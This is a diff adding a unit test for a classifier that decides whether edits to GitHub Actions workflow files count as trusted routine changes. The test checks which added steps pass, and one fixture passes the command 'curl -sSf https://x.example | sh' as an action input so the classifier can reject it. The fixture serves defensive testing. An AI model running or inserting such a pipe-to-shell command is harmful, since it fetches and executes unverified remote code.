@@ -599,6 +599,21 @@ describe('trusted routine changes (verdict rule trusted-routine)', () => {
     expect(editsOnlyCommands(base, 'jobs: [', 'workflow')).toBe(false);
   });
 
+  it('recognises a step of another action of an account the workflow already uses, without code in its inputs', () => {
+    const ci = (extra: string[]) =>
+      ['name: test', 'on:', '  push:', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-python@v5', ...extra, '      - run: pytest', ''].join('\n');
+    const base = ci([]);
+    // actions/cache beside actions/checkout: GitHub's account already ran code in the job.
+    expect(editsOnlyCommands(base, ci(['      - uses: actions/cache@v4', '        with:', '          path: ~/.cache/pip', "          key: pip-${{ hashFiles('pyproject.toml') }}"]), 'workflow')).toBe(true);
+    // Another account's action, a script handed to github-script, a command line as an input: not.
+    expect(editsOnlyCommands(base, ci(['      - uses: codecov/codecov-action@v5']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(base, ci(['      - uses: actions/github-script@v7', '        with:', '          script: console.log(1)']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(base, ci(['      - uses: actions/some-runner@v1', '        with:', '          run: curl -sSf https://x.example | sh']), 'workflow')).toBe(false);
+    // A local action is no account's.
+    const local = ['name: test', 'on: [push]', 'jobs:', '  t:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: ./.github/actions/setup', '      - run: make', ''].join('\n');
+    expect(editsOnlyCommands(local, local.replace('      - run: make', '      - uses: ./.github/actions/other\n      - run: make'), 'workflow')).toBe(false);
+  });
+
   it('recognises a new job or step built from what the workflow already runs: its actions, its commands with other versions', () => {
     const e2e = (jobs: string[], trigger = '  push:') =>
       ['name: e2e', 'on:', '  pull_request:', trigger, 'jobs:', '  version-file:', '    runs-on: ${{ matrix.os }}', '    strategy:', '      matrix:', '        os: [ubuntu-latest, windows-latest]', '    steps:', '      - uses: actions/checkout@v4', '      - uses: ./', '        with:', "          node-version-file: '.nvmrc'", '      - run: __tests__/verify-node.sh 24', ...jobs, ''].join('\n');
